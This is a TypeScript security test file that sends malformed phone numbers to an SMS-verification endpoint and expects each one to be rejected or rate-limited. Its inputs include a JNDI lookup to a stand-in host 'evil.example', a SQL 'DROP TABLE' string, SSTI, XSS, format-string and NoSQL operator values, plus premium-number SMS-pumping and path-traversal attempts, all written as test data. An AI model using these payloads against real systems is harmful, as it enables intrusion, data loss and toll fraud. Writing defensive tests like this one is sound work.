import { newMobile } from '../support/visitor.ts'
import {
  accepted,
  type Attacks,
  envelope,
  invalid,
  notFound,
  oneSms,
  problem,
  times,
  waitProblem,
} from './attack.ts'
import { type Attacker, digitsFrom } from './attacker.ts'

export const numberAttacks: Attacks = {
  'bombs one number in all its spellings': {
    source: 'CWE-180',
    how: ({ askFor }) => {
      const mobile = newMobile()
      const [area, middle, last] = [mobile.slice(0, 3), mobile.slice(3, 7), mobile.slice(7)]
      const wide = digitsFrom(0xff10, mobile)
      const spellings = [`+86${mobile}`, `0086${mobile}`, `86${mobile}`, `+86 (${area}) ${middle}-${last}`]
      const odd = [`＋86${wide}`, wide, `0${mobile}`, ` ${area}\u00a0${middle}\u2011${last} `]
      return [mobile, ...spellings, ...odd].map(askFor)
    },
    expected: [accepted, ...times(8, waitProblem('sms_too_frequent'))],
    effects: oneSms,
  },
  'pumps numbers of other countries, of premium and of satellite services': {
    source: 'CWE-799',
    how: askForEach(() => {
      const countries = ['+14155550132', '+447400123456', '+85291234567']
      const services = ['+37410312345', '+8821612345678', '+979123456789']
      return [...countries, ...services, newMobile()]
    }),
    expected: [
      ...times(3, problem('country_not_supported', { detail: 'We send to CN only.' })),
      ...times(3, invalid('/mobile')),
      accepted,
    ],
    effects: oneSms,
  },
  'asks for an SMS to landlines, short codes and hotlines': {
    source: 'ASVS 2.2.1',
    how: askForEach(() => ['+861012345678', '10086', '12345', '95588', '4008001234', '110', '+86110']),
    expected: invalid('/mobile'),
  },
  'writes two numbers into one': {
    source: 'CWE-88',
    how: askForEach((one, other) =>
      [',', ';', ' ', '\n', '\r\n', '\0', '|', '&mobile=', '', '/'].map((join) => one + join + other),
    ),
    expected: invalid('/mobile'),
  },
  'writes a number as a URI, with an extension, in letters, or with a line end': {
    source: 'RFC 3966',
    how: askForEach((mobile) => {
      const endings = ['x1', '#1', ',,1', '\n', '\0'].map((ending) => mobile + ending)
      const uris = [`tel:+86${mobile}`, `+86${mobile};ext=1`, `+86${mobile};phone-context=+1`]
      return [...endings, ...uris, '1-38O-OOO-OOOO']
    }),
    expected: invalid('/mobile'),
  },
  'writes a number in Arabic, Devanagari and mathematical digits': {
    source: 'Unicode TR36',
    how: askForEach((mobile) => [0x0660, 0x06f0, 0x0966, 0x1d7ce].map((zero) => digitsFrom(zero, mobile))),
    expected: invalid('/mobile'),
  },
  'sends a number as a number, a list, an object or true': {
    source: 'ASVS 15.3.5',
    how: askForEach((one, other) => [Number(one), [one], [one, other], { $ne: one }, true, [[]]]),
    expected: invalid('/mobile'),
  },
  'puts templates, look-ups and format strings where the number belongs': {
    source: 'ASVS 1.3.7',
    how: askForEach(() => {
      const templates = ['{{7*7}}', '${jndi:ldap://evil.example/a}', '%s%s%n']
      return [...templates, "'; DROP TABLE user; --", '<svg onload=x>']
    }),
    expected: invalid('/mobile'),
  },
  'hides more in the number of a classic path': {
    source: 'CWE-22',
    how: ({ askClassic }) => {
      const mobile = newMobile()
      const endings = ['%00', '%0a', '%2f..', ';a=b', `,${newMobile()}`, '%ff']
      const paths = [...endings.map((ending) => mobile + ending), '%2e%2e']
      return askClassic(...paths.map((path) => ({ path })))
    },
    expected: [...times(6, envelope('invalid_parameters')), notFound],
  },
}

/** Makes bad numbers of two new ones, and asks for an SMS to each. All requests use one solved captcha. */
function askForEach(mobilesOf: (one: string, other: string) => readonly unknown[]) {
  return ({ ask }: Attacker) => ask(...mobilesOf(newMobile(), newMobile()).map((mobile) => ({ mobile })))
}
